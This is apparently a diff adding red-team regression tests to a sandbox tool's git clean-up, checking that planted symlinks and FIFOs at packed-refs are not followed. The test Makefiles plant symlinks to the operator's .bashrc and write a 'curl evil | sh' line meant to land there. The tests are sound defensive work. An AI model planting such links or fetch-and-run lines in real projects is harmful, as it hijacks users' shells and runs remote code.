@@ -128,3 +128,62 @@ def test_the_operators_own_replace_ref_stays(sandbox: Sandbox, repo: Path) -> No
     assert ran.returncode == 0, ran.stderr
     assert "replace ref" not in ran.stderr
     assert _git("replace", "-l", cwd=repo) == f"{old}\n"
+
+
+# -- red team 61: the clean-up itself -------------------------------------------------------
+
+@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
+def test_a_link_planted_where_the_clean_up_writes_is_not_followed(sandbox: Sandbox,
+                                                                  repo: Path) -> None:
+    """The run plants links at the names the clean-up might write packed-refs' new copy
+    under, to the operator's .bashrc, and a packed-refs whose text it wants there."""
+    bashrc = sandbox.home / ".bashrc"
+    bashrc.write_text("# mine\n")
+    old = _git("rev-parse", "HEAD:a.txt", cwd=repo).strip()
+    plant = "; ".join(f"ln -sf {bashrc} .git/packed-refs.gatekeep-{pid}"
+                      for pid in range(1, 400))
+    (repo / "Makefile").write_text(
+        f"all:\n\t{plant}; printf '{old} refs/replace/{old}\\ncurl evil | sh\\n' "
+        f"> .git/packed-refs\n")
+    ran = sandbox.gatekeep("run", "-c", "make")
+    assert ran.returncode == 0, ran.stderr
+    assert bashrc.read_text() == "# mine\n"
+    assert "refs/replace/" not in (repo / ".git" / "packed-refs").read_text()
+
+
+@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
+@pytest.mark.parametrize("kind", ["link", "fifo"])
+def test_a_packed_refs_that_is_no_plain_file_is_held(sandbox: Sandbox, repo: Path,
+                                                     kind: str) -> None:
+    """git follows a link there (its replace refs too): moved aside, never followed, and
+    a FIFO is not read (the clean-up would wait on it)."""
+    old = _git("rev-parse", "HEAD:a.txt", cwd=repo).strip()
+    new = _git("rev-parse", "HEAD:b.txt", cwd=repo).strip()
+    make = (f"printf '{new} refs/replace/{old}\\n' > t/refs; ln -sf ../t/refs "
+            ".git/packed-refs" if kind == "link" else "mkfifo .git/packed-refs")
+    (repo / "t").mkdir()
+    (repo / "Makefile").write_text(f"all:\n\t{make}\n")
+    ran = sandbox.gatekeep("run", "-c", "make", timeout=60)
+    assert ran.returncode == 0, ran.stderr
+    assert "packed-refs as a link or no plain file" in ran.stderr
+    assert not os.path.lexists(repo / ".git" / "packed-refs")
+    assert os.path.lexists(repo / ".git" / "packed-refs.gatekeep-held")
+    assert _git("replace", "-l", cwd=repo) == ""
+
+
+def test_the_new_packed_refs_is_made_where_no_planted_name_is_followed(tmp_path: Path) -> None:
+    """In-process, where the clean-up's own pid is known: a link at the name it once used
+    (`packed-refs.gatekeep-PID`) is left alone, and so is what it names."""
+    from gatekeep.sandbox.created import _packed_replacements
+
+    git = tmp_path / ".git"
+    git.mkdir()
+    victim = tmp_path / "victim"
+    victim.write_text("# mine\n")
+    packed = git / "packed-refs"
+    packed.write_text(f"{'1' * 40} refs/heads/main\n{'2' * 40} refs/replace/{'3' * 40}\n")
+    (git / f"packed-refs.gatekeep-{os.getpid()}").symlink_to(victim)
+    found = _packed_replacements(str(packed), 0)
+    assert found == [("3" * 40, "2" * 40)]
+    assert packed.read_text() == f"{'1' * 40} refs/heads/main\n" and not packed.is_symlink()
+    assert victim.read_text() == "# mine\n"
